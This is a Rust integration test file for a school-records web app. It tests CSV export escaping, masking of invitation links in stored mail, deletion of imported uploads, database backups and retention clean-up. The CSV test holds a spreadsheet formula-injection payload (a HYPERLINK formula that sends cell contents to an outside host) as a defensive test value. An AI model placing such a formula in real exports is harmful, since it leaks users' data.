//! The data's life cycle (issue 9, items 7, 8, 12, 14): exports that spreadsheets cannot
//! evaluate, personal links masked once mail is sent, uploads removed after import, retention
//! with a moved clock, and backups that boot.

use std::time::Duration;

use driehoek::mail::MASK;

use crate::both_backends;
use crate::common::scenario::school;
use crate::common::smtp::SmtpSink;
use crate::common::{
    fresh_database, id_from_location, link_in, spawn_app, spawn_app_with, Backend, TempDir,
    TestApp, ADMIN_EMAIL, PASSWORD,
};

// ── item 7: CSV export (ASVS V1.2.10) ───────────────────────────────────────────────────────

both_backends!(
    coverage_csv_cells_cannot_be_formulas,
    |app: TestApp| async move {
        let mut admin = app.admin().await;
        admin.get("/groups/new").await;
        let evil = "=HYPERLINK(\"http://x.nl/?\"&A1;\"5A\")";
        let page = admin
            .post("/groups/new", &[("name", evil), ("school_type", "po")])
            .await;
        id_from_location(&page.location.expect("group created"));
        for name in ["+31 6", "-1", "@SUM(A1)"] {
            admin
                .post("/groups/new", &[("name", name), ("school_type", "po")])
                .await;
        }
        let csv = admin.get("/coverage.csv").await;
        assert_eq!(csv.status, 200);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(csv.body.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        assert!(cells.contains(&format!("'{evil}")), "{}", csv.body);
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?} in {}",
                csv.body
            );
        }
        assert!(cells.contains(&"'+31 6".to_string()), "{}", csv.body);
    }
);

// ── item 8: personal links and uploaded files are not kept (ASVS V14.2.x) ──────────────────

/// The outbox row of the newest mail to `to`: (id, status, body_text, body_html).
async fn outbox_row(app: &TestApp, to: &str) -> (i64, String, String, String) {
    sqlx::query_as(
        "SELECT id, status, body_text, body_html FROM outbox WHERE to_address = $1 \
         ORDER BY id DESC LIMIT 1",
    )
    .bind(to)
    .fetch_one(app.db.read())
    .await
    .unwrap()
}

both_backends!(
    mail a_sent_mail_keeps_no_personal_link,
    |app: TestApp, sink: SmtpSink| async move {
        let mut admin = app.admin().await;
        let email = "nieuw.collega@example.org";
        admin.get("/staff/new").await;
        admin
            .post(
                "/staff/new",
                &[("name", "Nieuwe Collega"), ("email", email), ("teacher", "on")],
            )
            .await
            .assert_redirect_to("/staff");
        let mails = sink.wait_for(email, 1, Duration::from_secs(15)).await;
        let link = mails[0].link().expect("the invitation has a link");
        let token = link.rsplit('/').next().unwrap().to_string();
        assert!(token.len() > 10, "{link}");
        app.wait_outbox_drained(Duration::from_secs(15)).await;
        let (id, status, text, html) = outbox_row(&app, email).await;
        assert_eq!(status, "sent");
        assert!(!text.contains(&token) && !html.contains(&token), "{text}");
        assert!(text.contains(MASK), "{text}");
        let page = admin.get(&format!("/outbox/{id}")).await;
        assert_eq!(page.status, 200);
        assert!(!page.contains(&token), "{}", page.body);
        page.assert_contains("onleesbaar gemaakt");
        // The link itself still works: only the stored copy was masked.
        let path = link.strip_prefix(&app.base).unwrap().to_string();
        assert_eq!(app.browser().get(&path).await.status, 200);
    }
);

both_backends!(
    a_waiting_mail_stays_readable_in_the_outbox,
    |app: TestApp| async move {
        // Without SMTP nothing is sent: the outbox is where the link is read.
        let mut admin = app.admin().await;
        let email = "wacht@example.org";
        admin.get("/staff/new").await;
        admin
            .post(
                "/staff/new",
                &[("name", "Wacht Even"), ("email", email), ("teacher", "on")],
            )
            .await
            .assert_redirect_to("/staff");
        let (id, status, text, _) = outbox_row(&app, email).await;
        assert_eq!(status, "pending");
        let link = link_in(&text).expect("link in the waiting mail");
        assert!(!link.contains(MASK));
        admin
            .get(&format!("/outbox/{id}"))
            .await
            .assert_contains(&link);
    }
);

/// A one-pupil import file.
fn import_csv(nr: &str) -> Vec<u8> {
    format!(
        "Leerlingnummer;Achternaam;Voorvoegsel;Roepnaam;Geboortedatum;Groep;Naam ouder/verzorger 1;E-mailadres ouder/verzorger 1\n\
         {nr};Jansen;;Noor;14-03-2016;7B;Petra Jansen;petra{nr}@example.org\n"
    )
    .into_bytes()
}

both_backends!(
    an_uploaded_file_is_gone_once_imported_or_discarded,
    |app: TestApp| async move {
        let mut admin = app.admin().await;
        let path = {
            admin.get("/import").await;
            let page = admin.upload_csv("leerlingen.csv", import_csv("9001")).await;
            page.location.expect("preview")
        };
        // While the preview waits, the file is kept (preview and commit read the same bytes).
        assert_eq!(
            app.count("SELECT COUNT(*) FROM imports WHERE LENGTH(content) > 0")
                .await,
            1
        );
        admin.get(&path).await;
        admin.post(&format!("{path}/commit"), &[]).await;
        for _ in 0..600 {
            if app
                .count("SELECT COUNT(*) FROM imports WHERE status = 'done'")
                .await
                == 1
            {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(
            app.count("SELECT COUNT(*) FROM pupils WHERE external_id = '9001'")
                .await,
            1
        );
        assert_eq!(
            app.count("SELECT COUNT(*) FROM imports WHERE LENGTH(content) > 0")
                .await,
            0,
            "the committed file is gone"
        );
        // The result page still shows, and a second click changes nothing.
        admin
            .get(&path)
            .await
            .assert_contains("De import is klaar.");
        admin
            .post(&format!("{path}/commit"), &[])
            .await
            .assert_redirect_to(&path);

        let other = admin
            .upload_csv("tweede.csv", import_csv("9002"))
            .await
            .location
            .expect("preview");
        admin.get(&other).await;
        admin
            .post(&format!("{other}/discard"), &[])
            .await
            .assert_redirect_to("/import");
        assert_eq!(app.count("SELECT COUNT(*) FROM imports").await, 1);
        assert_eq!(
            app.count("SELECT COUNT(*) FROM imports WHERE LENGTH(content) > 0")
                .await,
            0
        );
    }
);

// ── item 14: backups that boot ──────────────────────────────────────────────────────────────

/// An app on an existing database (a restored copy).
async fn app_on(backend: Backend, url: String) -> TestApp {
    spawn_app_with(backend, move |c| c.database_url = url)
        .await
        .expect("app on the copy")
}

/// Signs in on a restored app and reads the group made before the backup.
async fn reads_the_group(app: &TestApp, group: &str) {
    let mut b = app.browser();
    b.sign_in(ADMIN_EMAIL, PASSWORD)
        .await
        .assert_redirect_to("/");
    b.get("/groups").await.assert_contains(group);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sqlite_backup_made_while_serving_boots_the_app() {
    let app = spawn_app(Backend::Sqlite).await.expect("sqlite app");
    let mut admin = app.admin().await;
    admin.get("/groups/new").await;
    admin
        .post(
            "/groups/new",
            &[("name", "Back-up 8C"), ("school_type", "po")],
        )
        .await;
    let dir = TempDir(std::env::temp_dir().join(format!("driehoek_backup_{}", std::process::id())));
    let _ = std::fs::remove_dir_all(&dir.0);
    std::fs::create_dir_all(&dir.0).unwrap();
    let target = dir.0.join("kopie.db");
    // Writes go on while the copy is made.
    let writer = {
        let mut admin = app.browser();
        admin.sign_in(ADMIN_EMAIL, PASSWORD).await;
        tokio::spawn(async move {
            for i in 0..20 {
                admin.get("/groups/new").await;
                admin
                    .post(
                        "/groups/new",
                        &[("name", &format!("G{i}")), ("school_type", "po")],
                    )
                    .await;
            }
        })
    };
    let done = driehoek::backup::sqlite(&app.db, &target)
        .await
        .expect("backup");
    writer.await.unwrap();
    assert!(done.bytes > 0 && done.to_string().contains("integrity check ok"));
    // Never overwrites.
    let again = driehoek::backup::sqlite(&app.db, &target).await;
    assert!(again.is_err(), "an existing file is refused");
    assert_eq!(std::fs::metadata(&target).unwrap().len(), done.bytes);

    let restored = app_on(Backend::Sqlite, format!("sqlite://{}", target.display())).await;
    reads_the_group(&restored, "Back-up 8C").await;
}

/// `pg_dump`/`pg_restore` of PostgreSQL 15 (or on PATH).
fn pg_tool(name: &str) -> Option<std::path::PathBuf> {
    let candidates = std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).collect::<Vec<_>>())
        .unwrap_or_default()
        .into_iter()
        .chain(
            ["17", "16", "15", "14"]
                .iter()
                .map(|v| format!("/usr/lib/postgresql/{v}/bin").into()),
        );
    candidates
        .map(|d: std::path::PathBuf| d.join(name))
        .find(|p| p.is_file())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_postgres_dump_restores_into_a_fresh_database_that_boots_the_app() {
    let Some(app) = spawn_app(Backend::Postgres).await else {
        return;
    };
    let ci = std::env::var("CI").is_ok_and(|v| v == "true" || v == "1");
    let (Some(dump), Some(restore)) = (pg_tool("pg_dump"), pg_tool("pg_restore")) else {
        assert!(
            !ci,
            "pg_dump/pg_restore are needed for the backup test in CI"
        );
        eprintln!("note: pg_dump/pg_restore not found; PostgreSQL backup test not run");
        return;
    };
    let mut admin = app.admin().await;
    admin.get("/groups/new").await;
    admin
        .post(
            "/groups/new",
            &[("name", "Back-up 8C"), ("school_type", "po")],
        )
        .await;
    let dir = TempDir(std::env::temp_dir().join(format!("driehoek_pgdump_{}", std::process::id())));
    let _ = std::fs::remove_dir_all(&dir.0);
    std::fs::create_dir_all(&dir.0).unwrap();
    let file = dir.0.join("driehoek.dump");
    let source = app.state.config.database_url.clone();
    // The README's commands: a custom-format dump, restored into a new, empty database.
    let out = std::process::Command::new(dump)
        .args(["--format=custom", "--no-owner", "--file"])
        .arg(&file)
        .arg(&source)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (target, _) = fresh_database(Backend::Postgres).await.unwrap();
    let out = std::process::Command::new(restore)
        .args(["--no-owner", "--exit-on-error", "--dbname", &target])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let restored = app_on(Backend::Postgres, target).await;
    reads_the_group(&restored, "Back-up 8C").await;
}

// ── item 12: retention with a moved clock (ASVS V14.2.x) ───────────────────────────────────

both_backends!(
    leavers_files_go_after_the_retention_period_and_exit_answers_stay_without_names,
    |app: TestApp| async move {
        let mut s = school(&app).await;
        let today = driehoek::timefmt::iso(driehoek::timefmt::today());
        // Sem and Finn leave today; Lotte (Sem's sister) stays, so Linda and Rob stay too.
        for id in [s.sem, s.finn] {
            sqlx::query("UPDATE pupils SET leaving_on = $1 WHERE id = $2")
                .bind(&today)
                .bind(id)
                .execute(app.db.write())
                .await
                .unwrap();
        }
        let finn = s.finn.to_string();
        s.tom
            .post(
                &format!("/pupils/{finn}/records/new"),
                &[
                    ("kind", "progress"),
                    ("held_on", &today),
                    ("form", "school"),
                    ("a-goes-well", "Finn Vries leest veel"),
                    ("action", "close"),
                ],
            )
            .await
            .assert_redirect_to("/records/");
        // Sem's exit conversation, closed, with names in what was said.
        sqlx::query(
            "INSERT INTO records (school_id, pupil_id, kind, held_on, answers, status, created_by, created_at, updated_at) \
             SELECT p.school_id, p.id, 'exit', $1, $2, 'closed', (SELECT MIN(id) FROM staff), 0, 0 FROM pupils p WHERE p.id = $3",
        )
        .bind(&today)
        .bind(r#"{"goes-well":"Sem Bakker vond het fijn; moeder Linda ook"}"#)
        .bind(s.sem)
        .execute(app.db.write())
        .await
        .unwrap();

        // Within the period nothing is due.
        let page = s.admin.get("/retention").await;
        assert_eq!(page.status, 200);
        page.assert_contains("Er is nu niets ouder dan de bewaartermijn.");
        // Only administrators see or change it.
        assert_eq!(s.tom.get("/retention").await.status, 403);
        s.tom.post("/retention", &[("retention_years", "1")]).await;
        assert_eq!(
            app.count("SELECT COUNT(*) FROM retention_policies").await,
            0
        );

        // Two years and two days later (this app's clock only).
        app.state.clock.advance((2 * 365 + 2) * 86_400);
        s.admin
            .sign_in(ADMIN_EMAIL, PASSWORD)
            .await
            .assert_redirect_to("/");
        let page = s.admin.get("/retention").await;
        for shown in ["Vries, Finn", "Bakker, Sem", "Eva de Vries"] {
            page.assert_contains(shown);
        }
        for kept in ["Lotte", "Linda Bakker", "Rob Bakker"] {
            assert!(!page.contains(kept), "{kept} is not due: {}", page.body);
        }
        assert!(
            app.count(&format!(
                "SELECT COUNT(*) FROM sessions WHERE last_seen_at < {}",
                app.state.clock.now() - 86_400
            ))
            .await
                > 0
        );

        // Two instances at once: one runs, the other sees the lock.
        let db = app.db.clone();
        let (a, b) = tokio::join!(
            app.state
                .clock
                .scope(driehoek::retention::run_if_due(&db, "instance-a")),
            app.state
                .clock
                .scope(driehoek::retention::run_if_due(&db, "instance-b")),
        );
        let runs: Vec<_> = [a.unwrap(), b.unwrap()].into_iter().flatten().collect();
        assert_eq!(runs.len(), 1, "exactly one instance ran");
        assert_eq!(runs[0].pupils, 2);
        assert_eq!(runs[0].guardians, 1);
        // Not again the same day.
        let again = app
            .state
            .clock
            .scope(driehoek::retention::run_if_due(&db, "instance-a"))
            .await
            .unwrap();
        assert!(again.is_none());

        let left = format!("{}, {}", s.sem, s.finn);
        for table in [
            "pupils WHERE id",
            "records WHERE pupil_id",
            "pupil_guardians WHERE pupil_id",
        ] {
            assert_eq!(
                app.count(&format!("SELECT COUNT(*) FROM {table} IN ({left})"))
                    .await,
                0,
                "{table}"
            );
        }
        assert_eq!(
            app.count(&format!(
                "SELECT COUNT(*) FROM pupils WHERE id = {}",
                s.lotte
            ))
            .await,
            1
        );
        assert_eq!(
            app.count("SELECT COUNT(*) FROM guardians WHERE name = 'Eva de Vries'")
                .await,
            0
        );
        assert_eq!(
            app.count(
                "SELECT COUNT(*) FROM guardians WHERE name IN ('Linda Bakker', 'Rob Bakker')"
            )
            .await,
            2
        );
        assert_eq!(
            app.count("SELECT COUNT(*) FROM audit_log WHERE action = 'retention-removed'")
                .await,
            2
        );
        let kept: Vec<String> = sqlx::query_scalar("SELECT answers FROM retained_exit_answers")
            .fetch_all(app.db.read())
            .await
            .unwrap();
        assert_eq!(kept.len(), 1);
        assert!(kept[0].contains("vond het fijn"), "{}", kept[0]);
        for name in ["Sem", "Bakker", "Linda"] {
            assert!(!kept[0].contains(name), "{name} in {}", kept[0]);
        }
        assert_eq!(
            app.count(&format!(
                "SELECT COUNT(*) FROM sessions WHERE last_seen_at < {}",
                app.state.clock.now() - 86_400
            ))
            .await,
            0
        );
        s.admin
            .get("/retention")
            .await
            .assert_contains("Er is nu niets ouder dan de bewaartermijn.");

        // The period is the school's choice; a wrong one is refused in the page.
        s.admin
            .post("/retention", &[("retention_years", "twee")])
            .await
            .assert_contains("Vul een aantal jaren in van 1 tot en met 10.");
        s.admin
            .post("/retention", &[("retention_years", "5")])
            .await
            .assert_redirect_to("/retention");
        assert_eq!(app.count("SELECT years FROM retention_policies").await, 5);
        assert_eq!(
            app.count(
                "SELECT COUNT(*) FROM audit_log WHERE entity = 'retention' AND entity_id = 5"
            )
            .await,
            1
        );
    }
);
